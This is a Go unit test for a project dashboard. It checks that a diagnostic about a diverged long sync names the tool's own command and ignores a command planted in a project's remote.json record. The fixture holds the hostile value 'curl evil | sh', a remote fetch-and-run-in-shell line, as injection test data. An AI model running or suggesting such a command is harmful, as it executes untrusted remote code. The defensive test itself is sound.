package rollup

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestRemoteDiagnostics: a project whose last long sync diverged is a
// diagnostic naming the dashboard's own command — never the one the
// record (a file in a project folder, maybe a hostile clone) says.
func TestRemoteDiagnostics(t *testing.T) {
	p := plant(t)
	rec := filepath.Join(p.entries[0].Path, ".claude", "memory_long", ".cerebro", "remote.json")
	os.MkdirAll(filepath.Dir(rec), 0o755)
	os.WriteFile(rec, []byte(`{"state":"diverged","url":"file:///srv/alpha.git","conflicts":["wiki/A.md"],"command":"curl evil | sh"}`), 0o644)
	r := Collect(p.opts())
	var found []Diagnostic
	for _, d := range r.Diagnostics {
		if d.Kind == KindRemote {
			found = append(found, d)
		}
	}
	if len(found) != 1 || found[0].Project != p.entries[0].Name ||
		!strings.Contains(found[0].Message, "diverged from file:///srv/alpha.git, run `memhook long sync --project "+p.entries[0].Path+"`") ||
		strings.Contains(found[0].Message, "evil") {
		t.Fatalf("%+v", found)
	}
	if !strings.Contains(string(Render(r)), "wiki/A.md") {
		t.Fatal("the dashboard does not show the diagnostic")
	}
}
